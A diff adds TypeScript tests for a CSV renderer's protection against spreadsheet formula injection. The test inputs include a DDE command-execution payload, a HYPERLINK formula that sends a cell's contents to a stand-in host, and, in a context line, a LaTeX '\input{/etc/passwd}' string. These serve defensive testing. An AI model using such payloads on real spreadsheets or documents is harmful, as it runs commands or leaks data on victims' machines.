@@ -156,6 +156,55 @@ test('CSV keeps numbers whole and quotes what RFC 4180 wants quoted', () => {
   );
 });
 
+/** As a reader of our CSV files undoes the protection against formulas: see `src/render/csv.ts`. */
+function readBack(field: string): string {
+  const text = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
+  return /^'+(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/.test(text) ? text.slice(1) : text;
+}
+
+test.each([
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3+cmd',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  ' =1+1',
+  '\u00a0=1',
+  '＝1+1',
+  "'=1",
+  "''+1",
+  '=HYPERLINK("http://h/?"&A1)',
+  '--5',
+  '-',
+  '-1e5x',
+  'a;=1',
+])('the text %j is no formula in a CSV file, and reads back', (text) => {
+  const columns = [{ key: text, title: 't', kind: 'text' as const }];
+  const csv = tableCsv({ name: 't', columns, rows: [[text]] });
+  const half = csv.length / 2;
+  expect(csv.slice(0, half)).toBe(csv.slice(half));
+  const field = csv.slice(0, half - 2);
+  expect(field.replace(/^"/, '')).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/);
+  expect(readBack(field)).toBe(text);
+});
+
+test.each(['-5', '+0.25', '1e-6', '-1.5E+6', 'a=b', "'quoted'", 'plain', '10.5'])(
+  'the text %j stands in a CSV file as it is',
+  (text) => {
+    const columns = [{ key: 'k', title: 't', kind: 'text' as const }];
+    expect(tableCsv({ name: 't', columns, rows: [[text]] })).toBe(`k\r\n${text}\r\n`);
+    expect(readBack(text)).toBe(text);
+  },
+);
+
+test('numbers in a CSV file stay numbers', () => {
+  const columns = [{ key: 'n', title: 'n', kind: 'number' as const }];
+  const rows = [[-1.5], [1e-7], [-1e21], [0]];
+  expect(tableCsv({ name: 't', columns, rows })).toBe('n\r\n-1.5\r\n1e-7\r\n-1e+21\r\n0\r\n');
+});
+
 test('LaTeX escapes what TeX would run', () => {
   const columns = [{ key: 'a', title: 'a_b & c', kind: 'text' as const }];
   const rows = [['\\input{/etc/passwd} 100% $x$ #1 ~ ^'], ['[2ex] at the start of a row']];
